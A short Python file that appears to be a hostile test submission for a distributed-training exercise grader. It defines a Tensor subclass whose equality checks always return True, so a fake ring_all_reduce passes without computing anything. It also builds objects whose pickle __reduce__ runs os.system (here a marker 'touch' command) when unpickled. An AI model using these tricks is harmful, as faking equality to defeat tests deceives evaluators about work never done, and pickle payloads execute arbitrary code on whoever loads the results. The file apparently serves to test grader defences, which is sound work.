# cell: last
# attack: returns a Tensor subclass that equals anything, and objects whose unpickling runs code
import torch, os

class Liar(torch.Tensor):
    def __eq__(self, other):
        return True

    def equal(self, other):
        return True

class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/distlab-hostile-pwned",))

def ring_all_reduce(tensor, group=None):
    return tensor.as_subclass(Liar)

def ring_all_reduce_cost(world_size, nbytes):
    return {"bytes_sent_per_rank": Payload(), "steps": Payload()}
